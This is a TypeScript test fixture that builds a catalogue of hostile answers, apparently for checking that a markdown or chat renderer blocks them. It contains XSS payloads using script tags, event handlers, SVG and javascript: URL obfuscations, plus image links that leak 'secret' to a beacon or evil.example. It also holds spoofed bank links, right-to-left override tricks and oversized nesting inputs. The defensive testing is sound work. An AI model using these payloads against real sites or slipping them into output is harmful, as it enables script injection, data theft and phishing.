export interface HostileAnswer {
  readonly family: string;
  readonly text: string;
}

/** `beacon` is an address that must never be fetched; `window.hacked` must never be set. */
export function hostileAnswers(beacon: string): HostileAnswer[] {
  const families: Readonly<Record<string, readonly string[]>> = {
    html: html(beacon),
    svg: svg(beacon),
    link: [...links(beacon).map((address) => `Read [this](${address}) now`), ...linkTricks(beacon)],
    image: images(beacon),
    css: css(beacon),
    unicode: unicode(beacon),
    size: sizes(beacon),
  };
  return Object.entries(families).flatMap(([family, texts]) => texts.map((text) => ({ family, text })));
}

const html = (beacon: string) => [
  '<script>window.hacked=1</script>',
  `<script src="${beacon}"></script>`,
  '<img src=x onerror="window.hacked=1">',
  `<img src="${beacon}">`,
  `<img srcset="${beacon} 1x">`,
  `<picture><source srcset="${beacon}"><img></picture>`,
  `<iframe src="${beacon}"></iframe>`,
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  `<object data="${beacon}"></object><embed src="${beacon}">`,
  `<video src="${beacon}" autoplay poster="${beacon}"></video>`,
  `<audio src="${beacon}" autoplay></audio>`,
  `<form action="${beacon}"><input autofocus onfocus="window.hacked=1"><button>Go</button></form>`,
  `<input type="image" src="${beacon}">`,
  `<base href="${beacon}">`,
  `<meta http-equiv="refresh" content="0;url=${beacon}">`,
  `<link rel="stylesheet" href="${beacon}"><link rel="prefetch" href="${beacon}">`,
  '<details open ontoggle="window.hacked=1">x</details>',
  '<div onmouseover="window.hacked=1" style="position:fixed;inset:0">x</div>',
  '<template><script>window.hacked=1</script></template>',
  '<a href="javascript:window.hacked=1" autofocus onfocus="window.hacked=1">x</a>',
  '<body onload="window.hacked=1">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=1">',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  '<!--><img src=x onerror="window.hacked=1">-->',
  '<dialog open><form method="dialog"><button>Sign in again</button></form></dialog>',
  '<custom-element></custom-element><slot name="x"></slot>',
  '</section></div></article><h1>Outside</h1><script>window.hacked=1</script>',
  '<textarea><script>window.hacked=1</script></textarea>',
  '&lt;script&gt;window.hacked=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.hacked=1&#62;',
];

const svg = (beacon: string) => [
  '<svg onload="window.hacked=1"></svg>',
  `<svg><image href="${beacon}"/></svg>`,
  `<svg><image xlink:href="${beacon}"/></svg>`,
  '<svg><script>window.hacked=1</script></svg>',
  `<svg><use href="${beacon}#x"/></svg>`,
  '<svg><a xlink:href="javascript:window.hacked=1"><text>x</text></a></svg>',
  '<svg><animate onbegin="window.hacked=1" attributeName="x" dur="1s"/></svg>',
  '<svg><set attributeName="href" to="javascript:window.hacked=1"/></svg>',
  '<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>',
  `<svg><style>@import url(${beacon});</style></svg>`,
];

const links = (beacon: string) => [
  'javascript:window.hacked=1',
  'JaVaScRiPt:window.hacked=1',
  ' javascript:window.hacked=1',
  'java\tscript:window.hacked=1',
  'javascript&colon;window.hacked=1',
  '&#106;avascript:window.hacked=1',
  '<javascript:window.hacked=1>',
  '\u0001javascript:window.hacked=1',
  'javascript://example.org/%0Awindow.hacked=1',
  'https:javascript:window.hacked=1',
  'data:text/html,<script>window.hacked=1</script>',
  'data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://example.org/1',
  'view-source:https://example.org',
  '//evil.example/x',
  '/logout',
  '#fragment',
  'mailto:a@example.org?body=x',
  'https://your-bank.example@evil.example/',
  'https://user:password@evil.example/',
  `${beacon}" onclick="window.hacked=1`,
  `${beacon} "title" onclick=window.hacked=1`,
];

const linkTricks = (beacon: string) => [
  `[https://your-bank.example](${beacon})`,
  `[x][1]\n\n[1]: javascript:window.hacked=1`,
  `<javascript:window.hacked=1>`,
  `[![x](${beacon})](${beacon})`,
  `[a]([b](javascript:window.hacked=1))`,
  `[[[[x](javascript:window.hacked=1)](data:text/html,x)](vbscript:x)](file:///x)`,
  '[1](javascript:window.hacked=1) [2] [99] [0]',
  '[\u202egro.elpmaxe//:sptth](https://evil.example/)',
];

const images = (beacon: string) => [
  `![](${beacon})`,
  `![secret](${beacon}?q=secret)`,
  `![x](${beacon} "title")`,
  `![x](<${beacon}>)`,
  `![x][beacon]\n\n[beacon]: ${beacon}`,
  `![x](data:image/svg+xml,<svg onload=window.hacked=1>)`,
  `![x](//evil.example/x.png)`,
  `| a |\n| - |\n| ![x](${beacon}) |`,
  `> - ![x](${beacon})`,
  `# ![x](${beacon})`,
];

const css = (beacon: string) => [
  `<style>@import url(${beacon}); :host{display:none!important}</style>`,
  `<style>*{background:url(${beacon})!important}</style>`,
  `<p style="background:url(${beacon});position:fixed;inset:0;z-index:99">cover</p>`,
  `<font face="x" color="red"><marquee>x</marquee></font>`,
  'text{color:expression(window.hacked=1)}</style><style>',
];

const unicode = (beacon: string) => [
  '\u202e\u202dturned around \u2066\u2067\u2068 and never put right',
  'مرحبا \u202e hello [x](https://evil.example/\u202egpj.exe)',
  `Z${'\u0301\u0316\u0489'.repeat(400)}`,
  'nul \u0000 and \ud800 half and \uffff\ufffe',
  '\u200b\u200c\u200d\ufeff'.repeat(500),
  `${'👨‍👩‍👧‍👦'.repeat(300)}`,
  `[\u200b](${beacon})`,
];

const sizes = (beacon: string) => [
  Array.from({ length: 1_000 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  `${'>'.repeat(1_000)} x`,
  `${'> '.repeat(5_000)}x`,
  '1. '.repeat(2_000),
  `${'*'.repeat(5_000)}x${'*'.repeat(5_000)}`,
  '*x_'.repeat(4_000),
  '_a_'.repeat(5_000),
  `${'['.repeat(5_000)}x${`](${beacon})`.repeat(200)}`,
  '[a]('.repeat(3_000),
  '`'.repeat(5_000) + 'a`'.repeat(2_000),
  `|${' a |'.repeat(500)}\n|${' - |'.repeat(500)}\n${`|${' b |'.repeat(500)}\n`.repeat(40)}`,
  `| a | b |\n| - | - |\n${'| 1 | 2 |\n'.repeat(1_500)}`,
  'word '.repeat(12_000),
  'x'.repeat(30_000),
  '#'.repeat(10_000),
  '\n'.repeat(20_000),
  `\`\`\`\n${'<b>\n'.repeat(4_000)}`,
];
